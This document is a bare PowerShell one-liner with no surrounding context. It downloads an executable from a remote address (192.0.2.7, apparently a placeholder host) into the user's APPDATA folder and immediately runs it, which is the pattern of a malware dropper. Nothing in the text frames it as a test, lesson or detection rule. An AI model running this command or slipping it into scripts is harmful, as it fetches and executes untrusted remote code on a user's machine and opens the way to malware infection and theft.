$u='http://192.0.2.7/x.exe';$p="$env:APPDATA\x.exe";(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p
